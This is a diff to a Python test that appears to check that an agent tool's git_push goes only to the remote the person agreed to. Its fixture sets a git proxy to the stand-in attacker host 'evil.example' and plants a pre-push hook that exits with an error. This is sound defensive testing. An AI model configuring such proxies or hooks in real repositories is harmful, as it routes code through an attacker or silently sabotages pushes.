@@ -72,9 +72,9 @@ async def test_a_branch_is_pushed_to_where_the_person_agreed(tmp_path: Path, mon
         async with connected(tmp_path, monkeypatch, f"127.0.0.1:{port}") as at:
             url = f"http://127.0.0.1:{port}/x.git"
             await at.bash(f"git init -q -b main .; echo 1 > a.txt; git remote add origin {url}")
-            await at.bash(
-                "git config http.proxy http://evil.example; printf '#!/bin/sh\\nexit 1' > .git/hooks/pre-push"
-            )
+            at.git("config", "http.proxy", "http://evil.example")
+            (at.folder / ".git/hooks/pre-push").write_text("#!/bin/sh\nexit 1")
+            (at.folder / ".git/hooks/pre-push").chmod(0o755)
             await at.value("git_add", paths=["."])
             commit = (await at.value("git_commit", message="one", author=AUTHOR))["commit"]["hash"]
             assert await at.reason("git_push") == f"git_push sends branch 'main' to {url}"
